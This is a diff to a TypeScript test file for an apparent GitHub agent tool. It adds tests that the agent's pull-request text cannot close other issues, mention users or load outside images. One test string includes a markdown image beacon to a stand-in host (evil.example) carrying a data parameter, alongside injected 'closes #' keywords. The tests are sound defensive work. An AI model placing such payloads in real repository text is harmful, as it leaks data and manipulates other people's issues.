@@ -13,6 +13,7 @@ import { createModelClient } from "../../src/agent/model.ts";
 import { runSession } from "../../src/agent/session.ts";
 import { PitcrewError, describeError } from "../../src/errors.ts";
 import { PITCREW_COMMENT_MARKER } from "../../src/github/api.ts";
+import { audienceOf } from "../../src/github/defuse.ts";
 import type { FinalState } from "../../src/github/progress.ts";
 import {
   allToolCallsFailed,
@@ -40,6 +41,7 @@ const TASK: Task = {
   repository: { owner: "acme", repo: "app", defaultBranch: "main" },
 };
 const RUN_URL = "https://github.com/acme/app/actions/runs/4242";
+const AUDIENCE = audienceOf(TASK, RUN_URL);
 const TOTALS = {
   turns: 7,
   usage: {
@@ -138,6 +140,25 @@ describe("pullRequestText", () => {
     assert.ok(dispatched.includes("@alice asked for a workflow dispatch: “bump the linter”"));
   });
 
+  test("the summary and the title cannot close other issues, mention anyone or load outside images", () => {
+    const attack =
+      "Fixes #99, closes #100; fixes #12. Thanks &#64;bob ![](https://evil.example/?d=x)";
+    const { title, body } = pullRequestText({
+      ...FACTS,
+      issueTitle: "Crash (closes #5)",
+      summary: `${attack}\n\n\`\`\`\nresolves #101\n\`\`\``,
+    });
+    assert.equal(title, "Crash (closes `#5`)");
+    assert.ok(
+      body.includes(
+        "Fixes `#99`, closes `#100`; fixes #12. Thanks &amp;#64;bob `![](https://evil.example/?d=x)`",
+      ),
+      body,
+    );
+    assert.ok(body.includes("```\nresolves #\u200b101\n```"));
+    assert.ok(body.includes("\n\nFixes #12\n\n"));
+  });
+
   test("an empty summary says so; a summary with an open fence cannot swallow the rest", () => {
     assert.ok(
       pullRequestText({ ...FACTS, summary: "" }).body.includes("_The agent left no summary._"),
@@ -148,22 +169,23 @@ describe("pullRequestText", () => {
 });
 
 describe("text rules", () => {
-  test("quotedMarkdown: code kept as written, prose defused, open fences closed", () => {
+  test("quotedMarkdown: fenced code kept as written, inline code broken invisibly, prose defused, open fences closed", () => {
     const cases: [string, string][] = [
       ["see <details> and <!-- x", "see &lt;details> and &lt;!-- x"],
       ["thanks @bob, mail a@b.com", "thanks @\u200bbob, mail a@b.com"],
-      ["inline `<b> @bob` stays", "inline `<b> @bob` stays"],
-      ["``a ` @bob`` and @bob", "``a ` @bob`` and @\u200bbob"],
+      ["inline `<b> @bob` stays", "inline `<\u200bb> @\u200bbob` stays"],
+      ["``a ` @bob`` and @bob", "``a ` @\u200bbob`` and @\u200bbob"],
       ["```\n<!-- kept -->\n```\nafter <i>", "```\n<!-- kept -->\n```\nafter &lt;i>"],
       ["````md\n```\nstill code", "````md\n```\nstill code\n````"],
       ["I ran ```npm test``` twice", "I ran ```npm test``` twice"],
     ];
-    for (const [text, expected] of cases) assert.equal(quotedMarkdown(text), expected, text);
+    for (const [text, expected] of cases)
+      assert.equal(quotedMarkdown(text, AUDIENCE), expected, text);
   });
 
   test("quotedMarkdown: cut at a line end near the limit, saying how much was cut", () => {
     const text = Array.from({ length: 100 }, (_, i) => `line ${i}`).join("\n");
-    const quoted = quotedMarkdown(text, 100);
+    const quoted = quotedMarkdown(text, AUDIENCE, 100);
     assert.ok(quoted.startsWith("line 0\nline 1\n"));
     assert.match(quoted, /line \d+\n\n… \([\d,]+ more characters cut\)$/);
     assert.ok(quoted.length < 150);
